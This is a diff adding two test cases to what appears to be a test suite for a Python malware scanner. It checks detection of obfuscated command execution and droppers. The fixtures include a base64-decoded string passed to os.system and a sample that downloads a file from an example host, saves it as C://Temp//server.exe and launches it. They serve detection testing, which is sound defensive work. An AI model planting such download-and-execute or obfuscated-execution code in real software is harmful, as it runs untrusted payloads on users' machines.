@@ -151,3 +151,30 @@ PY
 	assert_line --index 0 "3 Exfiltration function 30 os.environ (line 3) |  | urllib.request.urlopen"
 	assert_line --index 1 "5 Exfiltration function 100 os.getlogin() (line 5) |  | urllib.request.urlopen"
 }
+
+@test "ObfuscatedShellCommand: base64-decoded data run as a command; a literal command is not" {
+	py m.py <<'PY'
+import os, base64, subprocess
+cmd = "aWQ="
+os.system(base64.b64decode(cmd))
+subprocess.run(["ls", "-l"])
+os.system("id")
+PY
+	obf() { scan m.py | jq -r 'select(.type == "hit" and .detection == "ObfuscatedShellCommand") | "\(.line) \(.context) \(.score) \(.flow.source) | \(.flow.sink)"'; }
+	run -0 obf
+	assert_output "3 import 100 base64.b64decode() (line 3) | os.system"
+}
+
+@test "Dropper: a downloaded file whose constant path a later command string names; not another command" {
+	py m.py <<'PY'
+import os, requests
+def fetch():
+    r = requests.get("https://dl.example.org/a")
+    with open(f'C://Temp//server.exe', 'wb') as f:
+        f.write(r.content)
+    os.system("start cmd.exe /c start C://Temp//server.exe")
+    os.system("start cmd.exe /c start C://Temp//other.exe")
+PY
+	run flows m.py
+	assert_output "6 Dropper function 40 requests.get() (line 3) | r → file C://Temp//server.exe | os.system"
+}
